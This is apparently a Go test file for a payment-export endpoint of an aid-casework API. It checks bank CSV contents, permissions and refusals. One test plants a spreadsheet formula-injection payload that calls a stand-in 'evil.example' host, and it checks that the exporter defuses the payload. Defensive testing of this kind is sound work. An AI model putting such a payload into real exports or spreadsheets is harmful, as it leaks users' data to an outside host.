package httpapi

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/google/uuid"

	"aidtrail/domain/access"
	"aidtrail/domain/casework"
	"aidtrail/domain/event"
	"aidtrail/domain/payment"
)

// paymentExportMatrixRows: GET /v1/payments/export of station A's and
// station B's subtrees, for every actor of the matrix: budgets.manage at
// the unit, on the record when refused; every file handed out is
// recorded (bank_file.exported).
func paymentExportMatrixRows() []matrixRow {
	return []matrixRow{
		{route: "GET /v1/payments/export", perms: []access.Permission{access.PermBudgetsManage}, allowed: onlyAdmin,
			ok: 200, scopes: inAndOut, list: true, records: payment.TypeBankFileExported,
			prepare: func(f *orgOverHTTP, _ matrixActor, sc scope) cell {
				return cell{path: "/v1/payments/export?" + url.Values{"status": {"instructed"},
					"unit_id": {pick(sc, f.stationA, f.stationB)}}.Encode()}
			},
			verify: func(t *testing.T, _ *orgOverHTTP, _ matrixActor, _ cell, rec *httptest.ResponseRecorder) {
				exportedRows(t, rec)
			}},
	}
}

// exportedRows checks an export's answer is the bank's CSV and returns its
// data rows.
func exportedRows(t *testing.T, rec *httptest.ResponseRecorder) [][]string {
	t.Helper()
	if rec.Code != http.StatusOK || !strings.HasPrefix(rec.Header().Get("Content-Type"), "text/csv") {
		t.Fatalf("export: %d %s %s", rec.Code, rec.Header().Get("Content-Type"), rec.Body)
	}
	if cc := rec.Header().Get("Cache-Control"); cc != "no-store" {
		t.Errorf("Cache-Control %q on a file of bank accounts, want no-store", cc)
	}
	records, err := csv.NewReader(bytes.NewReader(rec.Body.Bytes())).ReadAll()
	if err != nil {
		t.Fatalf("the export does not parse back as CSV: %v\n%s", err, rec.Body)
	}
	if len(records) == 0 || strings.Join(records[0], ",") != payment.ExportHeader {
		t.Fatalf("export header %v, want %s", records, payment.ExportHeader)
	}
	return records[1:]
}

// exportURL is the export of unit's subtree once the read models reach the
// store's head.
func (s *testAPI) exportURL(unit string) string {
	return "/v1/payments/export?" + url.Values{"status": {"instructed"}, "unit_id": {unit},
		"min_position": {strconv.FormatInt(s.head(), 10)}}.Encode()
}

// The bank export lists exactly the instructed payments of the unit's
// subtree, in the order instructed, each with its case, payee, account and
// amount, and parses back; payments the bank has answered are left out.
func TestExportPaymentsOverHTTP(t *testing.T) {
	eachStore(t, func(t *testing.T, f *orgOverHTTP) {
		s, root := f.api, f.rootToken()
		empW := f.employee(f.workshopA)
		inA := []string{f.instructed(f.empA), f.instructed(empW)}
		inB := f.instructed(f.empB)
		confirmed, failed := f.instructed(f.empA), f.instructed(empW)
		s.must(http.StatusOK, http.MethodPost, "/v1/payments/"+confirmed+"/confirm", root, map[string]any{"bank_ref": "BOC-X1"})
		s.must(http.StatusOK, http.MethodPost, "/v1/payments/"+failed+"/fail", root, map[string]any{"reason": "账户冻结"})
		inA = append(inA, f.instructed(f.empA))

		for _, c := range []struct {
			name, unit, token string
			want              []string
		}{
			{"station A by the root's administrator", f.stationA, root, inA},
			{"station A by its own administrator", f.stationA, f.tokens[actorAdminA], inA},
			{"the workshop below A", f.workshopA, root, inA[1:2]},
			{"station B", f.stationB, root, []string{inB}},
			{"the whole bureau", f.root, root, []string{inA[0], inA[1], inB, inA[2]}},
			{"a unit without payments", f.workshopB, root, nil},
		} {
			rows := exportedRows(t, s.do(http.MethodGet, s.exportURL(c.unit), c.token, nil))
			var got []string
			for _, r := range rows {
				got = append(got, r[0])
				v := s.must(http.StatusOK, http.MethodGet, "/v1/payments/"+r[0], root, nil)
				want := []string{r[0], v["case_id"].(string), v["employee_id"].(string), "6222020200112233445",
					strconv.FormatInt(int64(v["amount_fen"].(float64)), 10), payment.Currency}
				if !slices.Equal(r, want) {
					t.Errorf("%s: row %v, want %v", c.name, r, want)
				}
			}
			if !slices.Equal(got, c.want) {
				t.Errorf("%s: exported %v, want %v", c.name, got, c.want)
			}
		}
		// Status defaults to instructed.
		rec := s.do(http.MethodGet, "/v1/payments/export?unit_id="+f.stationB, root, nil)
		if rows := exportedRows(t, rec); len(rows) != 1 || rows[0][0] != inB {
			t.Errorf("without status: %v, want %s", rows, inB)
		}
	})
}

// A value that a spreadsheet would read as a formula reaches the bank's
// file quoted, never as a formula. Registration admits only digits for a
// bank account, so the hostile value is put where a foreign or older
// record could hold it: in the sealed account of a payment's instruction,
// written to the store directly, sealed under the payee's key.
func TestExportPaymentsDefusesFormulas(t *testing.T) {
	eachStore(t, func(t *testing.T, f *orgOverHTTP) {
		s := f.api
		const formula = `=HYPERLINK("http://evil.example/?"&A1,"6222")`
		body := grantBody(f.empB)
		body["description"] = formula
		caseID := s.create("/v1/cases", f.cases().cwRoot, body)
		history, err := s.env.Store.ReadStream(t.Context(), casework.CaseStream(uuid.MustParse(caseID)), 1)
		if err != nil {
			t.Fatal(err)
		}
		var opened casework.CaseOpened
		if err := json.Unmarshal(history[0].Data, &opened); err != nil {
			t.Fatal(err)
		}
		id := uuid.New()
		data, err := json.Marshal(payment.Instructed{PaymentID: id, CaseID: opened.CaseID, EmployeeID: opened.EmployeeID,
			BudgetID: uuid.MustParse(f.cases().budgets["aid.grant"]), AmountFen: grantFen,
			BankAccount: payment.Sealed(opened.Description)})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := s.env.Store.Append(t.Context(), payment.Stream(id), event.Exact(0),
			event.Event{ID: event.NewID(), Type: payment.TypeInstructed, Data: data}); err != nil {
			t.Fatal(err)
		}
		rows := exportedRows(t, s.do(http.MethodGet, s.exportURL(f.stationB), f.rootToken(), nil))
		if len(rows) != 1 || rows[0][0] != id.String() || rows[0][3] != "'"+formula {
			t.Fatalf("exported %v, want the account as '%s", rows, formula)
		}
	})
}

// Refusals: without budgets.manage at the unit, 403 and the refusal on
// the record; bad parameters, 400 naming the field; an unknown unit, 404;
// an erased payee, 409 naming the payment. None writes anything but the
// record of a refusal.
func TestExportPaymentsRefusals(t *testing.T) {
	eachStore(t, func(t *testing.T, f *orgOverHTTP) {
		s, root := f.api, f.rootToken()
		f.instructed(f.empA)
		for _, actor := range []string{actorApprover, actorCaseworker, actorAuditor, actorAnalyst, actorEmployee} {
			s.deniedOnRecord(actor, s.request(http.MethodGet, s.exportURL(f.stationA), f.tokens[actor], nil))
		}
		s.deniedOnRecord("administrator of A on B", s.request(http.MethodGet, s.exportURL(f.stationB), f.tokens[actorAdminA], nil))

		for _, c := range []struct {
			query  string
			status int
			code   string
			field  string
		}{
			{"status=confirmed&unit_id=" + f.stationA, 400, codeValidation, "status"},
			{"status=instructed&status=instructed&unit_id=" + f.stationA, 400, codeValidation, "status"},
			{"status=instructed", 400, codeValidation, "unit_id"},
			{"status=instructed&unit_id=station-a", 400, codeValidation, "unit_id"},
			{"status=instructed&unit_id=" + f.stationA + "&min_position=-1", 400, codeValidation, "min_position"},
			{"status=instructed&unit_id=" + uuid.NewString(), 404, codeNotFound, ""},
		} {
			p := s.refused(c.query, s.request(http.MethodGet, "/v1/payments/export?"+c.query, root, nil), c.status, c.code)
			if p.Field != c.field {
				t.Errorf("%s: field %q, want %q (%s)", c.query, p.Field, c.field, p.Detail)
			}
		}

		pid := f.instructed(f.empB)
		s.must(http.StatusOK, http.MethodPost, "/v1/employees/"+f.empB+"/erase", root, map[string]any{"reason": "本人申请删除"})
		p := s.refused("an export to an erased payee", s.request(http.MethodGet, s.exportURL(f.stationB), root, nil), http.StatusConflict, codeInvalidState)
		if !strings.Contains(p.Detail, pid) {
			t.Errorf("refusal %q does not name payment %s", p.Detail, pid)
		}
	})
}
